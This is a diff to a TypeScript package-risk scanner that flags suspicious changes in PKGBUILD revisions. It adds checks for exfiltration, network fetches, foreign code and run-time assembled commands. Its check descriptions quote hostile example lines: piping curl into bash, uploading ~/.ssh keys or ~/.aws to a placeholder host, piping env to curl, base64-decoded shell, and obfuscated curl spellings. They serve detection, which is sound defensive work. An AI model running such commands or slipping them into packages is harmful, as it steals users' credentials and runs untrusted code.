@@ -4,22 +4,32 @@
  * the previous revision is flagged (for a first revision everything is new).
  */
 
+import { checkAssembledCommand } from './check-assembled.js';
 import { checkBuildChangedSameVersion } from './check-build-changed.js';
 import { checkChecksums } from './check-checksums.js';
 import { checkDownloadAndRun, checkPackageManagers } from './check-commands.js';
+import { checkExfiltration } from './check-exfiltration.js';
+import { checkForeignCodeRun } from './check-foreign-code.js';
+import { checkNetworkFetch } from './check-network.js';
 import { checkBinaryOrLargeFile, checkInstallScriptlet } from './check-files.js';
 import { checkObfuscation } from './check-obfuscation.js';
 import { checkPersistence } from './check-persistence.js';
 import { checkSources } from './check-sources.js';
 import { checkSrcinfoMismatch } from './check-srcinfo.js';
 import { checkMaintainerChange, checkYoungRevision } from './check-upstream.js';
+import { hiddenInIntermediateCommits } from './commits.js';
 import { SEVERITY_ORDER, type RiskCheck, type RiskFlag, type RiskInput } from './types.js';
 
-export type { RevisionFile, RevisionFiles, RiskCheck, RiskFlag, RiskInput, Severity, UpstreamMeta } from './types.js';
+export type { CommitFiles, RevisionFile, RevisionFiles, RiskCheck, RiskFlag, RiskInput, Severity, UpstreamMeta } from './types.js';
 export { addedLines, type NumberedLine } from './lines.js';
 export { parseBash } from './bash.js';
+export { anchorRowInDiff, decodePayloads, flagAnchor, type DecodedPayload, type DecodeOptions, type FlagAnchor } from './payload.js';
 export {
+  checkAssembledCommand,
   checkBinaryOrLargeFile,
+  checkExfiltration,
+  checkForeignCodeRun,
+  checkNetworkFetch,
   checkBuildChangedSameVersion,
   checkChecksums,
   checkDownloadAndRun,
@@ -53,23 +63,30 @@ export const CHECKS: ReadonlyArray<RiskCheckInfo & { run: RiskCheck }> = [
   },
   {
     id: 'install-scriptlet',
-    title: 'Install scriptlet added or changed (runs as root at install time)',
-    severity: 'high',
-    example: '`install=foo.install` added, or foo.install now runs `systemctl enable --now x.service`',
+    title: 'Install scriptlet added or changed (runs as root at install time), once, by what its new lines run',
+    severity: 'medium/low/info',
+    example: 'foo.install now runs `/opt/foo/setup --register` (medium); only `echo` and `gtk-update-icon-cache` (info)',
     run: checkInstallScriptlet,
   },
   {
     id: 'sources',
-    title: 'New download location that is unencrypted, foreign to url=, or a paste/shortener/IP host',
+    title: 'New download location that is unencrypted, foreign to url=, a paste/shortener/IP host, or a download moved to another origin',
     severity: 'high/medium',
-    example: '`source=("https://pastebin.com/raw/x")`, `http://` or a host unrelated to url=',
+    example: '`source=("https://pastebin.com/raw/x")`; a -bin .deb moved from github.com/vendor to github.com/someone-else',
     run: checkSources,
+  },
+  {
+    id: 'foreign-code-run',
+    title: 'A newly added foreign source (another forge account, other host, unpinned VCS) is run by the build',
+    severity: 'high/medium',
+    example: '`source+=("fix::git+https://github.com/newuser/fix.git")` and `bash "$srcdir/fix/install.sh"` in package()',
+    run: checkForeignCodeRun,
   },
   {
     id: 'checksums',
     title: 'Integrity checks weakened',
     severity: 'high/medium/info',
-    example: '`sha256sums` removed, `SKIP` for a tarball, `validpgpkeys` removed',
+    example: '`sha256sums` removed, `SKIP` for a tarball, `validpgpkeys` removed (per-architecture arrays replacing a generic one are info)',
     run: checkChecksums,
   },
   {
@@ -81,23 +98,44 @@ export const CHECKS: ReadonlyArray<RiskCheckInfo & { run: RiskCheck }> = [
   },
   {
     id: 'download-and-run',
-    title: 'Downloads and runs code, or opens a raw connection',
-    severity: 'high/medium',
+    title: 'Downloads and runs code, or opens a raw connection with a program attached',
+    severity: 'high',
     example: '`curl -s https://x.y/z.sh | bash` in package()',
     run: checkDownloadAndRun,
+  },
+  {
+    id: 'network-fetch',
+    title: 'Fetches from the network outside source=(); high at install time, at the top level, or when pkgver() starts fetching',
+    severity: 'high/medium',
+    example: '`pkgver() { curl -s https://x.y/v | sh; }` in an update; `wget` in build() (medium)',
+    run: checkNetworkFetch,
+  },
+  {
+    id: 'exfiltration',
+    title: 'Sends data out (uploads, raw connections, remote copies) or reads credentials or the environment',
+    severity: 'high/medium',
+    example: '`curl -F f=@$HOME/.ssh/id_ed25519 https://x.y`, `tar c ~/.aws | nc x.y 443`, `env | curl -d @- …`',
+    run: checkExfiltration,
+  },
+  {
+    id: 'assembled-command',
+    title: 'Command name or script built at run time: variables, indirection, eval, `${VAR:-sh}` at the end of a pipe',
+    severity: 'high/medium/low',
+    example: '`c=cu r=rl; $c$r -s x.y | ${SHELL:-sh}`, `eval "$p"`, `bash -c "$x"`, `$(printf \'\\x63\\x75\\x72\\x6c\') -s x.y`',
+    run: checkAssembledCommand,
   },
   {
     id: 'obfuscation',
     title: 'Obfuscated or encoded code',
     severity: 'high',
-    example: "`echo aGVsbG8= | base64 -d | sh`, `'c''u''r''l'`, long base64/hex blobs",
+    example: "`echo aGVsbG8= | base64 -d | sh`, `'c''u''r''l'`, long base64/hex blobs (comments are not read)",
     run: checkObfuscation,
   },
   {
     id: 'persistence',
-    title: 'Persistence or privilege: systemd, cron, shell rc, SSH keys, setuid',
-    severity: 'high/medium/info',
-    example: '`systemctl enable --now evil.service`, `chmod u+s`, writing `~/.bashrc`',
+    title: 'Persistence or privilege on the live system (systemd, cron, shell rc, SSH keys, setuid); files under $pkgdir are packaging',
+    severity: 'high/medium/low/info',
+    example: '`systemctl enable --now evil.service` (high); `install -Dm644 x.sh "$pkgdir/etc/profile.d/x.sh"` (info)',
     run: checkPersistence,
   },
   {
@@ -153,7 +191,53 @@ export function compareFlags(a: RiskFlag, b: RiskFlag): number {
   );
 }
 
-/** Runs every check and returns the flags sorted by severity, file and line. */
+/**
+ * On one line, a flag of the first check says less than one of these checks at the same or a
+ * higher severity (`curl x | sh` is a download-and-run, not also a network fetch), so it is dropped:
+ * each fact once, at its most telling line.
+ */
+const SUBSUMED_BY: Record<string, readonly string[]> = {
+  'network-fetch': ['download-and-run', 'exfiltration', 'assembled-command', 'foreign-code-run', 'obfuscation'],
+  'package-managers': ['foreign-code-run'],
+  obfuscation: ['assembled-command'],
+};
+
+export function dedupeFlags(flags: RiskFlag[]): RiskFlag[] {
+  return flags.filter((f) => {
+    const over = SUBSUMED_BY[f.check];
+    if (!over || f.line === undefined) return true;
+    return !flags.some(
+      (g) => g !== f && g.file === f.file && g.line === f.line && over.includes(g.check) && SEVERITY_ORDER[g.severity] <= SEVERITY_ORDER[f.severity],
+    );
+  });
+}
+
+/** A hostile revision can repeat one line thousands of times; past this many flags of one check, one flag sums up the rest. */
+export const MAX_FLAGS_PER_CHECK = 50;
+
+function capped(flags: RiskFlag[]): RiskFlag[] {
+  const out: RiskFlag[] = [];
+  const counts = new Map<string, number>();
+  for (const f of flags) {
+    const n = (counts.get(f.check) ?? 0) + 1;
+    counts.set(f.check, n);
+    if (n <= MAX_FLAGS_PER_CHECK) out.push(f);
+  }
+  for (const [check, n] of counts) {
+    if (n <= MAX_FLAGS_PER_CHECK) continue;
+    const worst = flags.filter((f) => f.check === check).sort(compareFlags)[0]!;
+    out.push({
+      check,
+      severity: worst.severity,
+      reason: `${check} found ${n - MAX_FLAGS_PER_CHECK} more lines like the ones above; review the whole file.`,
+    });
+  }
+  return out;
+}
+
+/** Runs every check and returns the flags sorted by severity, file and line (with intermediate commits when given). */
 export function analyzeRisk(input: RiskInput): RiskFlag[] {
-  return CHECKS.flatMap((c) => c.run(input)).sort(compareFlags);
+  const flags = dedupeFlags(CHECKS.flatMap((c) => c.run(input)));
+  const hidden = input.intermediate?.length ? hiddenInIntermediateCommits(input, flags, CHECKS, dedupeFlags) : [];
+  return capped([...flags, ...hidden].sort(compareFlags)).sort(compareFlags);
 }
